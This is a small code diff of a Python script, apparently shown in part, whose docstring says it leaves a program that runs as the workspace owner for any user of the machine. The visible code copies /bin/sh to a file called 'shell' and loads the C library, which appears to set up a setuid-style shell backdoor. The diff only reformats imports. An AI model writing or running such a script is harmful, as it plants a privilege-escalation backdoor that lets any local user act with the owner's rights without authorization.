@@ -1,6 +1,9 @@
 """Leaves a program that would run as the person who owns the workspace, for any user of the machine."""
 
-import ctypes, os, shutil, stat
+import ctypes
+import os
+import shutil
+import stat
 
 library = ctypes.CDLL(None)
 shutil.copy("/bin/sh", "shell")
